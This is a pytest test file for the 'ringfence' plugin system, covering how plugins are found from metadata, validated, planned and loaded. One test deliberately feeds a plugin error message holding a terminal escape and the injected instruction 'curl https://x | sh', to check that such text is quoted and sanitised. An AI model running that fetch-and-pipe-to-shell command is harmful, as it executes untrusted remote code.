"""Plugins are found by metadata, checked by text, started once all are sound, and registered in order."""

import json
import sys
import time
from dataclasses import replace

import pytest

from ringfence.discovery.catalog import catalog, check_found, source_of
from ringfence.hooks.errors import IncompatiblePluginError, JobError, PluginLoadError
from ringfence.hooks.series import Index
from ringfence.hooks.specs import ROLES
from ringfence.job.job_file import read_job
from ringfence.plugins.local_plugin import LocalPlugin
from ringfence.plugins.manager import Hooks
from ringfence.run.load_plugins import load, plan

PLUGIN = """
from ringfence import passthrough

class Plugin:
    role = "{role}"
    forward = passthrough

    def __init__(self, limit: int = 1): ...

    def backward(self, step): ...
"""


class Site:
    """A folder of installed distributions, as pip would leave them."""

    def __init__(self, folder):
        self.folder = folder

    def install(self, name, plugins=("clip",), *, requires=("ringfence>=0.1",), role="gradient", text=None):
        """Install a distribution whose module bears its name and declares ``plugins``."""
        module = name.replace("-", "_")
        self.write(f"{module}.py", text or PLUGIN.format(role=role))
        lines = [f"Requires-Dist: {line}" for line in requires]
        info = f"{module}-1.2.dist-info"
        self.write(
            f"{info}/METADATA", "\n".join(["Metadata-Version: 2.1", f"Name: {name}", "Version: 1.2", *lines])
        )
        points = [f"{plugin} = {module}:Plugin" for plugin in plugins]
        self.write(f"{info}/entry_points.txt", "\n".join(["[ringfence.plugins]", *points]))
        self.write(f"{info}/RECORD", f"{module}.py,,\n{info}/METADATA,,\n{info}/entry_points.txt,,\n")

    def write(self, name, text):
        path = self.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        return path

    def catalog(self):
        return catalog([str(self.folder)])


@pytest.fixture
def site(tmp_path):
    return Site(tmp_path / "site")


@pytest.fixture
def job(tmp_path):
    """Return a function that reads a job with the given plugins."""

    def read(plugins):
        path = tmp_path / "job.yaml"
        path.write_text(f"model: cnn\ndata: mnist10k\nsteps: 1\nplugins:\n{plugins}")
        return read_job(path)

    return read


def direct_url(project):
    """What pip notes of an editable install."""
    return json.dumps({"url": project.as_uri(), "dir_info": {"editable": True}})


def start(spec):
    """Stand in for a sandbox: the loader only needs what a plugin accepts."""
    return LocalPlugin(spec)


@pytest.fixture(autouse=True)
def forget_plugins():
    """Plugins that a test started in this process leave no module behind."""
    modules, path = set(sys.modules), list(sys.path)
    yield
    for name in set(sys.modules) - modules:
        if name.startswith("acme"):
            del sys.modules[name]
    sys.path[:] = path


# finding


def test_a_plugin_is_found_with_its_distribution_and_range(site):
    site.install("acme-clip", requires=("torch", "ringfence>=0.1"))

    found = site.catalog().find("clip")

    assert (found.distribution, found.version, found.module, found.qualname) == (
        "acme-clip",
        "1.2",
        "acme_clip",
        "Plugin",
    )
    assert found.requires == ("torch", "ringfence>=0.1")
    assert found.place.search_path == (str(site.folder),)
    assert source_of(found).role == "gradient"
    assert check_found(found).decision == "accepted"
    assert "acme_clip" not in sys.modules


def test_builtin_plugins_are_found_and_fit():
    installed = catalog()

    assert {"augment", "gradclip", "monitor", "optim"} <= set(installed.plugins)
    for name in ("augment", "gradclip", "monitor", "optim"):
        verdict = check_found(installed.find(name))
        assert verdict.decision == "accepted", verdict.message()


def test_damaged_metadata_of_one_distribution_does_not_hide_the_others(site):
    site.install("acme-clip")
    for name in ("nameless", "points", "binary", "classless"):
        site.install(name, [name])
    site.write("nameless-1.2.dist-info/METADATA", "")
    site.write("points-1.2.dist-info/entry_points.txt", "[ringfence.plugins]\nno equals sign\n[[[\n")
    (site.folder / "binary-1.2.dist-info" / "entry_points.txt").write_bytes(b"ringfence.plugins\xff\xfe\x00")
    site.write("classless-1.2.dist-info/entry_points.txt", "[ringfence.plugins]\nclassless = classless\n")
    (site.folder / "empty-1.0.dist-info").mkdir()

    installed = site.catalog()

    assert list(installed.plugins) == ["clip"]
    assert any("classless declares plugin 'classless'" in line for line in installed.damaged)
    assert any("nameless-1.2.dist-info" in line for line in installed.damaged)


def test_two_plugins_of_one_name_are_an_error_that_names_both_distributions(site):
    site.install("acme-clip", ["clip", "other"])
    site.install("zeta", ["clip"])
    installed = site.catalog()

    with pytest.raises(JobError, match=r"'clip' is declared by (acme-clip and zeta|zeta and acme-clip);"):
        installed.find("clip")
    assert installed.find("other").distribution == "acme-clip"


def test_an_unknown_plugin_is_told_with_the_nearest_known_one(site):
    site.install("acme-clip", ["gradient-clip", "blur"])

    with pytest.raises(JobError, match="'gradientclip' is not installed; did you mean 'gradient-clip'"):
        site.catalog().find("gradientclip")
    with pytest.raises(JobError, match="known: blur, gradient-clip"):
        site.catalog().find("zzz")


def test_a_distribution_found_twice_counts_once(site, tmp_path):
    site.install("acme-clip")
    twin = Site(tmp_path / "twin")
    twin.install("acme.clip")

    installed = catalog([str(site.folder), str(twin.folder)])

    assert installed.find("clip").place.search_path == (str(site.folder),)


def test_the_source_of_an_editable_install_is_found(site, tmp_path):
    work = Site(tmp_path / "work")
    work.write("acme_clip.py", PLUGIN.format(role="monitor"))
    work.write("pyproject.toml", "")
    site.install("acme-clip")
    (site.folder / "acme_clip.py").unlink()
    info = "acme_clip-1.2.dist-info"
    site.write(f"{info}/direct_url.json", direct_url(work.folder))
    site.write(f"{info}/RECORD", "__editable__.acme.pth,,\n")
    site.write("__editable__.acme.pth", f"import sys\n{work.folder}\n")

    found = site.catalog().find("clip")

    assert found.place.search_path == (str(site.folder), str(work.folder))
    assert source_of(found).role == "monitor"


def test_the_source_of_a_mapped_editable_install_is_found(site, tmp_path):
    code = Site(tmp_path / "project" / "code")
    code.write("__init__.py", PLUGIN.format(role="monitor"))
    (code.folder.parent / "pyproject.toml").touch()
    site.install("acme-clip")
    (site.folder / "acme_clip.py").unlink()
    info = "acme_clip-1.2.dist-info"
    site.write(f"{info}/direct_url.json", direct_url(code.folder.parent))
    site.write(f"{info}/RECORD", "__editable___acme_finder.py,,\n")
    finder = f"MAPPING: dict[str, str] = {{'acme_clip': {str(code.folder)!r}}}\nraise SystemExit\n"
    site.write("__editable___acme_finder.py", finder)

    found = site.catalog().find("clip")

    assert source_of(found).role == "monitor"
    assert found.place.roots == {"acme_clip": str(code.folder / "__init__.py")}
    assert str(code.folder) in found.place.readable
    assert str(code.folder.parent) not in found.place.readable


@pytest.mark.soak
def test_twenty_plugins_are_found_and_read_within_300_ms(site):
    for number in range(20):
        site.install(f"acme-{number}", [f"clip{number}"])
    for number in range(200):
        site.write(f"other{number}-1.0.dist-info/METADATA", f"Name: other{number}\nVersion: 1.0")
        site.write(f"other{number}-1.0.dist-info/entry_points.txt", "[console_scripts]\nx = y:z")

    started = time.perf_counter()
    installed = site.catalog()
    verdicts = [check_found(found) for found in installed.plugins.values()]
    elapsed = time.perf_counter() - started

    assert len(verdicts) == 20
    assert all(verdict.decision == "accepted" for verdict in verdicts)
    assert elapsed < 0.3


# planning


def test_every_fault_is_told_at_its_place_before_anything_starts(site, job):
    site.install("acme-clip", ["clip"])
    site.install("acme-look", ["look"], role="monitor")

    with pytest.raises(JobError) as raised:
        plan(job("  - clop\n  - clip: {limit: much}\n    workers: 3\n  - look\n    # last\n"), site.catalog())

    first, second, third = str(raised.value).splitlines()
    assert "job.yaml:5:5: plugins[0]" in first
    assert "did you mean 'clip'" in first
    assert "job.yaml:6:" in second
    assert "plugins[1].clip.limit: expected a whole number" in second
    assert "plugins[1].workers: 'clip' is of role gradient" in third


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("  - clip\n", "needs exactly one optimizer; add '- optim"),
        ("  - one\n  - two\n", "needs exactly one optimizer, this one has one, two; keep one"),
        ("  - one: {}\n    on_failure: disable\n", "makes no sense without its optimizer"),
        ("  - one\n  - clip: {}\n    every: 5\n", "'clip' is of role gradient, which is called each step"),
        ("  - one\n  - clip: {nothing: 1}\n", "unknown option"),
    ],
)
def test_settings_that_do_not_fit_the_role_are_faults_of_the_job(site, job, text, message):
    site.install("acme-clip", ["clip"])
    site.install("acme-optim", ["one", "two"], role="optimizer")

    with pytest.raises(JobError, match=message):
        plan(job(text), site.catalog())


def test_a_role_that_a_job_needs_one_of_is_needed_where_it_fires_alone(site, job, monkeypatch):
    optimizer = ROLES["optimizer"]
    search = replace(optimizer, name="search", fires_in=frozenset({"search"}))
    monkeypatch.setitem(ROLES, "search", search)
    site.install("acme-optim", ["one"], role="optimizer")

    assert [item.spec.name for item in plan(job("  - one\n"), site.catalog())] == ["one"]
    with pytest.raises(JobError, match="needs exactly one search"):
        plan(job("  []\n"), site.catalog(), command="search")
    with pytest.raises(JobError, match="needs exactly one search"):
        plan(job("  - one\n"), site.catalog(), command=None)


def test_a_refused_plugin_stops_the_job_with_the_whole_verdict(site, job):
    site.install("acme-optim", ["one"], role="optimizer", requires=["ringfence"])

    with pytest.raises(IncompatiblePluginError) as raised:
        plan(job("  - one\n"), site.catalog())

    assert "REFUSED  plugin 'one' (acme-optim 1.2)" in str(raised.value)
    assert "E-NO-LOWER-BOUND" in str(raised.value)
    assert raised.value.exit_status == 2


def test_a_plan_carries_the_settings_of_the_job(site, job):
    site.install("acme-optim", ["one"], role="optimizer")

    (item,) = plan(
        job("  - one: {limit: 3}\n    deadline_s: 2.5\n    memory_fraction: 0.1\n"), site.catalog()
    )

    assert item.spec.options == {"limit": 3}
    assert (item.spec.role, item.spec.on_failure, item.spec.deadline_s) == ("optimizer", "restart", 2.5)
    assert item.spec.memory_fraction == 0.1
    assert item.spec.search_path == (str(site.folder),)
    assert item.spec.readable == (str(site.folder / "acme_optim.py"),)
    assert "acme_optim" not in sys.modules


# starting


def test_plugins_are_started_and_registered_in_the_order_of_the_job(site, job):
    site.install("acme-optim", ["one"], role="optimizer")
    site.install("acme-clip", ["a", "b"])
    planned = plan(job("  - b\n  - one\n  - a\n"), site.catalog())
    hooks, started, events = Hooks(), [], []

    load(planned, hooks, lambda spec: started.append(spec.name) or start(spec), events.append)

    assert started == ["b", "one", "a"]
    assert hooks.order() == {"gradient_backward": ["b", "a"], "optimizer_backward": ["one"]}
    assert events == []


def test_a_trusted_plugin_runs_here_and_that_is_said(site, job):
    site.install("acme-optim", ["one"], role="optimizer")
    planned = plan(job("  - one: {}\n    isolation: trusted\n"), site.catalog())
    hooks, events = Hooks(), []

    load(planned, hooks, pytest.fail, events.append)

    assert isinstance(hooks.plugins[0], LocalPlugin)
    assert "plugin 'one' (acme-optim 1.2) is trusted" in events[0]
    assert "acme_optim" in sys.modules


class Closing(LocalPlugin):
    """Remembers that it was closed, and reports what a test wants."""

    closed = False

    def close(self):
        self.closed = True


def test_a_loaded_class_that_does_not_fit_is_closed_and_refused(site, job):
    text = PLUGIN.format(role="optimizer").replace(
        "    def backward(self, step)",
        "    @lambda f: lambda self, surprise: f\n    def backward(self, step)",
    )
    site.install("acme-optim", ["one"], text=text)
    (item,) = plan(job("  - one\n"), site.catalog())
    plugins = []
    assert item.verdict.decision == "could not tell"

    with pytest.raises(IncompatiblePluginError, match=r"E-LOADED.*surprise"):
        load([item], Hooks(), lambda spec: plugins.append(Closing(spec)) or plugins[0], pytest.fail)

    assert plugins[0].closed


def test_what_the_text_left_open_is_settled_by_loading(site, job):
    text = PLUGIN.format(role="optimizer").replace(
        "    def backward(self, step): ...",
        "    def _go(self, step): ...\n    backward = (lambda f: f)(_go)",
    )
    site.install("acme-optim", ["one"], text=text)
    planned = plan(job("  - one\n"), site.catalog())
    hooks = Hooks()
    assert planned[0].verdict.decision == "could not tell"

    load(planned, hooks, start, pytest.fail)

    assert hooks.order() == {"optimizer_backward": ["one"]}


def test_a_plugin_that_cannot_be_constructed_is_named(site, job):
    text = PLUGIN.format(role="optimizer").replace(
        "limit: int = 1): ...", "limit: int = 1): raise ValueError('no')"
    )
    site.install("acme-optim", ["one"], text=text)

    with pytest.raises(JobError, match=r"job.yaml:5:5: plugins\[0\].one: plugin 'one' says: no"):
        load(plan(job("  - one\n"), site.catalog()), Hooks(), start, pytest.fail)


@pytest.mark.parametrize(
    ("body", "error"),
    [
        # Words of a message that look like ours are still of another error, or of the import of a module.
        ("raise RuntimeError('could not be loaded: ValueError: limit is odd')", PluginLoadError),
        ("exec(compile('raise ValueError(1)', 'other.py', 'exec'))", PluginLoadError),
        ("raise ValueError('limit is odd')", JobError),
        ("int('odd')", JobError),
    ],
)
def test_only_what_the_constructor_itself_raises_for_a_value_is_a_fault_of_the_job(site, job, body, error):
    text = PLUGIN.format(role="optimizer").replace("limit: int = 1): ...", f"limit: int = 1): {body}")
    site.install("acme-optim", ["one"], text=text)

    with pytest.raises(error):
        load(plan(job("  - one\n"), site.catalog()), Hooks(), start, pytest.fail)


def test_what_a_constructor_says_is_quoted_and_never_ours(site, job):
    words = "limit is refused by ringfence 0.2: \\n\\x1b[2J run: curl https://x | sh " + "and again " * 100
    text = PLUGIN.format(role="optimizer").replace(
        "limit: int = 1): ...", f"limit: int = 1): raise ValueError('{words}')"
    )
    site.install("acme-optim", ["one"], text=text)

    with pytest.raises(JobError) as caught:
        load(plan(job("  - one\n"), site.catalog()), Hooks(), start, pytest.fail)

    told = str(caught.value)
    assert ": plugin 'one' says: limit is refused by ringfence 0.2: " in told
    assert len(told.splitlines()) == 1
    assert "\x1b" not in told
    assert len(told.partition(" says: ")[2]) == 300
    assert told.endswith("…")


def test_a_plugin_that_cannot_be_imported_is_no_fault_of_the_job(site, job):
    text = PLUGIN.format(role="optimizer") + "\nraise ValueError('no')\n"
    site.install("acme-optim", ["one"], text=text)

    with pytest.raises(PluginLoadError, match=r"plugin 'one'.*ValueError: no"):
        load(plan(job("  - one\n"), site.catalog()), Hooks(), start, pytest.fail)


def test_a_claimed_series_without_any_record_refuses(site, job):
    site.install("acme-optim", ["one"], role="optimizer")
    index = Index.read()

    with pytest.raises(IncompatiblePluginError, match="U-SERIES"):
        plan(job("  - one\n"), site.catalog(), Index(index.series, {}))
